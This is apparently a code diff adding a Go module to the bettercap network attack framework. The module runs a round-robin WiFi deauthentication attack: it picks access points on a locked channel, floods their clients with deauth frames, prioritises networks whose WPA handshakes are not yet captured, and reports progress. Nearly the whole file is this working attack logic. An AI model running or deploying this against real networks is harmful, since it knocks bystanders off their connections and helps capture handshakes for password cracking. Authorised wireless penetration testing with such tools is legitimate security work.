@@ -0,0 +1,153 @@
+package modules
+
+import (
+	"fmt"
+	"sort"
+	"time"
+
+	"github.com/bettercap/bettercap/log"
+	"github.com/bettercap/bettercap/network"
+)
+
+// WiFiDeauthProgress is the payload of wifi.deauth.progress events, sent
+// after each burst of wifi.deauth.roundrobin.
+type WiFiDeauthProgress struct {
+	AP       string `json:"ap"`
+	ESSID    string `json:"essid"`
+	Channel  int    `json:"channel"`
+	Bursts   int    `json:"bursts"`
+	Clients  int    `json:"clients"`
+	Captured int    `json:"captured"`
+}
+
+// nextDeauthTarget picks the access point on channel with clients which got
+// the fewest bursts, the ones with captured handshakes go last.
+func (w *WiFiModule) nextDeauthTarget(channel int, bursts map[string]int) *network.AccessPoint {
+	candidates := make([]*network.AccessPoint, 0)
+	for _, ap := range w.Session.WiFi.List() {
+		if ap.Channel() == channel && ap.NumClients() > 0 {
+			candidates = append(candidates, ap)
+		}
+	}
+
+	if len(candidates) == 0 {
+		return nil
+	}
+
+	sort.Slice(candidates, func(i, j int) bool {
+		a, b := candidates[i].BSSID(), candidates[j].BSSID()
+		if ca, cb := w.handshakes.Captured(a) > 0, w.handshakes.Captured(b) > 0; ca != cb {
+			return cb
+		} else if bursts[a] != bursts[b] {
+			return bursts[a] < bursts[b]
+		}
+		return a < b
+	})
+
+	return candidates[0]
+}
+
+func containsDeauthClient(flows []deauthFlow, client string) bool {
+	for _, flow := range flows {
+		if flow.Client.HwAddress == client {
+			return true
+		}
+	}
+	return false
+}
+
+func (w *WiFiModule) startRoundRobin() error {
+	if !w.Running() {
+		return fmt.Errorf("Module wifi.deauth.roundrobin requires module wifi.recon to be activated.")
+	} else if w.roundRobin {
+		return fmt.Errorf("wifi.deauth.roundrobin is already running")
+	} else if w.lockedChannel() == 0 {
+		return fmt.Errorf("wifi.deauth.roundrobin needs a channel locked with wifi.channel.lock")
+	}
+
+	err, src, batch, kind := w.deauthOptions()
+	if err != nil {
+		return err
+	}
+
+	err, period := w.IntParam("wifi.deauth.roundrobin.period")
+	if err != nil {
+		return err
+	} else if period < 0 {
+		return fmt.Errorf("wifi.deauth.roundrobin.period can't be negative")
+	}
+
+	w.roundRobin = true
+	w.writes.Add(1)
+	go func() {
+		defer w.writes.Done()
+		defer func() {
+			w.roundRobin = false
+		}()
+
+		channel := w.lockedChannel()
+		bursts := make(map[string]int)
+		targeted := make([]deauthFlow, 0)
+		defer func() {
+			w.removeDeauthTargets(targeted)
+		}()
+
+		log.Info("deauthing the access points on channel %d in turn ...", channel)
+
+		for w.roundRobin && w.Running() && w.lockedChannel() == channel && w.WaitIfPaused() {
+			ap := w.nextDeauthTarget(channel, bursts)
+			if ap == nil {
+				time.Sleep(time.Second)
+				continue
+			}
+
+			clients := ap.Clients()
+			bursts[ap.BSSID()]++
+
+			if err := w.Session.CheckTargets("wifi.deauth", len(clients)); err != nil {
+				log.Warning("skipping %s: %s", ap.BSSID(), err)
+			} else {
+				// the clients stay in the active set until the round robin stops
+				added := make([]deauthFlow, 0)
+				for _, client := range clients {
+					if !containsDeauthClient(targeted, client.HwAddress) {
+						added = append(added, deauthFlow{Ap: ap, Client: client})
+					}
+				}
+				targeted = append(targeted, added...)
+				w.addDeauthTargets(added)
+
+				stats := WiFiDeauthStats{Batch: batch}
+				for _, client := range clients {
+					sent := stats.Frames
+					w.sendDeauthPacket(ap.HW, client.HW, src, kind, &stats)
+					w.DeauthTargets.Sent(ap, client.HwAddress, stats.Frames-sent)
+				}
+				batch = stats.Batch
+			}
+
+			w.Session.Events.Add("wifi.deauth.progress", WiFiDeauthProgress{
+				AP:       ap.BSSID(),
+				ESSID:    ap.ESSID(),
+				Channel:  channel,
+				Bursts:   bursts[ap.BSSID()],
+				Clients:  len(clients),
+				Captured: w.handshakes.Captured(ap.BSSID()),
+			})
+
+			time.Sleep(time.Duration(period) * time.Millisecond)
+		}
+
+		log.Info("wifi.deauth.roundrobin stopped.")
+	}()
+
+	return nil
+}
+
+func (w *WiFiModule) stopRoundRobin() error {
+	if !w.roundRobin {
+		return fmt.Errorf("wifi.deauth.roundrobin is not running")
+	}
+	w.roundRobin = false
+	return nil
+}